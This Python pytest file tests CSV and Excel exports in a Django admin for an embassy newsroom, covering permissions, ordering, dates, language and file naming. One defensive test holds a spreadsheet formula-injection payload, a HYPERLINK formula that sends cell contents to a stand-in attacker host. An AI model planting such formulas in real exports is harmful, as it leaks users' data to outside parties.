"""Every list of the newsroom can be taken along, as CSV and for Excel, by who may see it."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from django.contrib import admin
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from lxml import html

from embassy.models import Mission
from news.models import Draft, Feature, Subscription
from tests import every_page, factories
from tests.consular import schedules
from tests.news.desk import sign_in

pytestmark = pytest.mark.django_db

RELEASES = "/admin/news/pressrelease/"
# A list of one is no list.
LISTS = [model for model in admin.site._registry if model is not Mission]


@pytest.fixture
def editor(client: Client) -> Client:
    factories.mission()
    sign_in(client, "editor")
    return client


def address(model: Any) -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")


def taken(client: Client, path: str, action: str = "download_csv", **chosen: Any) -> Any:
    chosen = chosen or {"select_across": 1, "_selected_action": 1}
    return client.post(path, {"action": action, **chosen})


def rows_of(response: Any) -> list[list[str]]:
    """The CSV of a response, with its heads."""
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))


def sheet_of(response: Any) -> Any:
    return openpyxl.load_workbook(io.BytesIO(response.getvalue())).active


def shown(client: Client, path: str) -> tuple[list[str], list[list[str]]]:
    """Heads and cells of a list as the page has them; what can be typed in stands as typed."""
    (table,) = html.fromstring(client.get(path).text).xpath("//table[@id='result_list']")
    heads = table.xpath("./thead//th[not(contains(@class, 'action'))]")
    rows = [
        [cell_shown(cell) for cell in row.xpath("./th|./td[not(@class='action-checkbox')]")]
        for row in table.xpath("./tbody/tr")
    ]
    return [words(head.find("./div[@class='text']")) for head in heads], rows


def cell_shown(cell: Any) -> str:
    for field in cell.iter("input"):
        if field.get("type") in {"text", "number"}:
            return field.get("value", "")
    for icon in cell.xpath(".//img[not(@class='thumbnail')]"):
        return {"True": "Yes", "False": "No", "None": ""}[icon.get("alt")]
    text = words(cell)
    return "" if text == "-" else text


def words(element: Any) -> str:
    return " ".join(element.text_content().split())


def is_moment(text: str) -> bool:
    try:
        return bool(datetime.fromisoformat(text))
    except ValueError:
        return False


# --- Of every list ---------------------------------------------------------------------------


@pytest.mark.long
@pytest.mark.database_clock
def test_every_list_says_in_its_files_what_it_shows(
    client: Client, settings, tmp_path, transactional_db
) -> None:
    settings.MEDIA_ROOT = tmp_path
    every_page.load()

    Feature.objects.create(
        message=factories.published().message,
        valid_from=factories.PUBLISHED,
        valid_through=datetime(2018, 3, 1, tzinfo=UTC),
    )
    sign_in(client, "editor")
    told = 0
    for model in LISTS:
        path = address(model)
        if not model._default_manager.exists():
            continue
        heads, cells = shown(client, path)
        head, *rows = rows_of(taken(client, path))
        assert head == heads, path
        assert len(rows) == len(cells), path
        for row, cells_of_row in zip(rows, cells, strict=True):
            for name, cell, as_shown in zip(head, row, cells_of_row, strict=True):
                same = " ".join(cell.split()).removeprefix("'") == as_shown.removeprefix("'")
                assert same or is_moment(cell), (path, name, cell, as_shown)
        sheet = sheet_of(taken(client, path, "download_excel"))
        assert [[*map(as_text, row)] for row in sheet.values] == [
            head, *([cell.removeprefix("'") for cell in row] for row in rows)
        ]  # fmt: skip
        told += 1
    assert told >= 12


def as_text(value: Any) -> str:
    return "" if value is None else str(value)


def test_every_list_offers_both_files_and_an_empty_one_gives_its_heads(editor: Client) -> None:
    for model in LISTS:
        response = taken(editor, address(model))
        assert response.status_code == 200, model
        desk = admin.site._registry[model]
        assert set(desk.get_actions(response.wsgi_request)) >= {"download_csv", "download_excel"}
        assert rows_of(response)[0]


def test_the_addresses_of_subscribers_are_taken_by_who_was_given_that_by_name(
    client: Client,
) -> None:
    factories.mission()
    factories.subscription("anna@example.org")
    seen = ["view_subscription", "delete_subscription"]
    sign_in(client, "clerk", *seen)
    for action in ("download_csv", "download_excel", "delete_selected"):
        response = taken(client, address(Subscription), action)
        assert response.headers["Content-Type"] == "text/html; charset=utf-8"
        assert not admin.site._registry[Subscription].get_actions(response.wsgi_request)
    assert Subscription.objects.count() == 1
    sign_in(client, "press", *seen, "export_subscription")
    assert rows_of(taken(client, address(Subscription)))[1][0] == "anna@example.org"


# --- What is selected --------------------------------------------------------------------------


def test_what_is_selected_is_taken_in_the_order_of_the_list(editor: Client) -> None:
    first, _other, third = (factories.draft(title=title) for title in ("A", "B", "C"))
    Draft.objects.filter(pk=first.pk).update(changed_at=datetime(2018, 2, 19, tzinfo=UTC))
    rows = rows_of(taken(editor, RELEASES, _selected_action=[third.pk, first.pk]))
    assert [row[0] for row in rows] == ["Title", "A", "C"]


def test_all_pages_are_taken_when_all_are_selected_and_what_is_filtered_out_is_not(
    editor: Client,
) -> None:
    for number in range(120):
        factories.draft(title=f"No {number}", in_language="en" if number % 2 else "ru")
    assert len(rows_of(taken(editor, RELEASES))) == 121
    path = f"{RELEASES}?language=ru"
    assert len(html.fromstring(editor.get(path).text).xpath("//*[@id='result_list']//tr")) < 121
    titles = {row[0] for row in rows_of(taken(editor, path))[1:]}
    assert titles == {f"No {number}" for number in range(0, 120, 2)}
    assert sheet_of(taken(editor, path, "download_excel")).max_row == 61


@pytest.mark.parametrize("path", [RELEASES, "/admin/news/category/", "/admin/auth/user/"])
@pytest.mark.parametrize("key", ["x", "", "-1", "1.0", "²", "9" * 30, "\x00"])
def test_a_selection_that_is_none_is_answered_with_a_sentence(
    editor: Client, path: str, key: str
) -> None:
    response = editor.post(path, {"action": "download_csv", "_selected_action": [key]}, follow=True)
    assert response.status_code == 200
    assert "What was chosen is no row of this list. Nothing has changed." in response.text


def test_a_long_list_costs_no_query_for_each_row(editor: Client) -> None:
    subject = factories.category()

    def cost() -> int:
        with CaptureQueriesContext(
            connection,
        ) as queries:
            assert rows_of(taken(editor, RELEASES))
        return len(queries)

    factories.draft(categories=[subject])
    few = cost()
    for _ in range(30):
        factories.draft(categories=[subject])
    assert cost() == few


# --- What stands in the cells --------------------------------------------------------------------


def test_a_moment_is_written_in_iso_8601_with_the_zone_of_the_host_city(editor: Client) -> None:
    draft = factories.draft_of(
        factories.published(public_from=datetime(2017, 7, 1, 9, 30, tzinfo=UTC))
    )
    Draft.objects.filter(pk=draft.pk).update(changed_at=datetime(2018, 2, 17, 8, 5, tzinfo=UTC))
    head, row = rows_of(taken(editor, RELEASES))
    cells = dict(zip(head, row, strict=True))
    assert cells["Public since"] == "2017-07-01T10:30:00+01:00"
    assert cells["Last change"] == "2018-02-17T08:05:00+00:00"


def test_a_day_is_written_in_iso_8601(editor: Client) -> None:
    schedules.closed(date(2018, 5, 9), reason="Victory Day")
    head, row = rows_of(taken(editor, "/admin/consular/specialhours/"))
    assert dict(zip(head, row, strict=True))["First day"] == "2018-05-09"


def test_a_title_that_is_a_formula_is_none_in_either_file(editor: Client) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    factories.draft(title=formula)
    assert rows_of(taken(editor, RELEASES))[1][0] == f"'{formula}"
    cell = sheet_of(taken(editor, RELEASES, "download_excel"))["A2"]
    assert (cell.data_type, cell.value) == ("s", formula)


def test_a_file_speaks_the_language_of_the_newsroom_also_while_it_is_sent(editor: Client) -> None:
    """The rows are read after the request has left the middleware that knows the language."""
    factories.published("comment", title="On the figures", in_language="ru")
    comments = "/admin/news/comment/"
    head, row = rows_of(
        editor.post(
            comments,
            {"action": "download_csv", "select_across": 1, "_selected_action": 1},
            headers={"accept-language": "ru"},
        )
    )
    assert "язык" in [name.lower() for name in head]
    assert "русский" in [cell.lower() for cell in row]


# --- For whom -------------------------------------------------------------------------------------


@pytest.mark.parametrize("action", ["download_csv", "download_excel"])
def test_who_may_see_a_list_may_take_it_and_nobody_else(client: Client, action: str) -> None:
    factories.mission()
    factories.draft(title="Secret")
    sign_in(client, "reader", "view_pressrelease")
    response = taken(client, RELEASES, action)
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.getvalue()
    sign_in(client, "consul", "view_office")
    assert taken(client, RELEASES, action).status_code == 403
    sign_in(client, "nobody", "view_comment")
    everything = taken(client, "/admin/news/draft/")
    assert [row[0] for row in rows_of(everything)] == ["Title"]
    client.logout()
    response = taken(client, RELEASES, action)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]


def test_a_file_is_named_for_its_list_and_day_and_kept_by_no_cache(editor: Client) -> None:
    for action, name in (
        ("download_csv", "press-releases-2018-02-18.csv"),
        ("download_excel", "press-releases-2018-02-18.xlsx"),
    ):
        response = taken(editor, RELEASES, action)
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.getvalue()
        assert "no-store" in response.headers["Cache-Control"]
